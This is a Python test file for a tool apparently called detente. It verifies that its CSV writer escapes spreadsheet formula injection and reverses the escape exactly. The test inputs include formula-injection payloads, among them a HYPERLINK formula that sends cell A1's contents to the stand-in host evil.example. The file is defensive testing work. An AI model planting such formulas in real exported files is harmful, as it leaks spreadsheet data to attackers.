"""Every CSV detente writes is safe in a spreadsheet, and the escape is exactly reversible."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from detente.safecsv import FORMULA_STARTS, SafeDictWriter, SafeWriter, restore_cell, safe_cell

SRC = Path(__file__).resolve().parents[1] / "src" / "detente"


@given(st.text())
def test_restore_undoes_the_escape(text: str) -> None:
    assert restore_cell(safe_cell(text)) == text  # type: ignore[arg-type]


@given(st.text())
def test_no_escaped_cell_starts_a_formula(text: str) -> None:
    assert not str(safe_cell(text)).startswith(FORMULA_STARTS)


def test_formulas_are_escaped_and_numbers_are_not() -> None:
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(['=HYPERLINK("https://evil.example?"&A1,"x")', "+1", "-2", "@SUM(A1)",
                     "\tx", "\rx", "plain", -1, 0.5, True])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert [c[:1] for c in cells[:6]] == ["'"] * 6
    assert cells[6:] == ["plain", "-1", "0.5", "True"]
    buffer = io.StringIO()
    dict_writer = SafeDictWriter(buffer, ["a"])
    dict_writer.writeheader()
    dict_writer.writerow({"a": "=1+1"})
    assert buffer.getvalue().splitlines() == ["a", "'=1+1"]


def test_no_module_writes_csv_without_the_safe_writer() -> None:
    offending = []
    for path in SRC.rglob("*.py"):
        if path.name == "safecsv.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"} and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offending.append(str(path.relative_to(SRC)))
    assert offending == [], f"write CSV with detente.safecsv: {offending}"


def test_the_polis_export_escapes_statements_and_reads_them_back_exactly(tmp_path: Path
                                                                         ) -> None:
    from detente.consensus import read_polis_conversation, write_polis_export

    texts = ['=HYPERLINK("https://evil.example","x")', "-5% of budgets", "'=already quoted",
             "@mention", "plain"]
    comments = [{"id": i, "body": t, "author": "=author"} for i, t in enumerate(texts)]
    votes = [{"participant": p, "statement": i, "vote": 1 if (p + i) % 2 else -1}
             for p in range(4) for i in range(len(texts))]
    write_polis_export(tmp_path, comments, votes, {})
    with (tmp_path / "comments.csv").open(encoding="utf-8") as handle:
        cells = [row[-1] for row in csv.reader(handle)][1:]
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    conversation = read_polis_conversation(tmp_path)
    assert [c["body"] for c in conversation.comments] == texts
    assert {c["author"] for c in conversation.comments} == {"=author"}
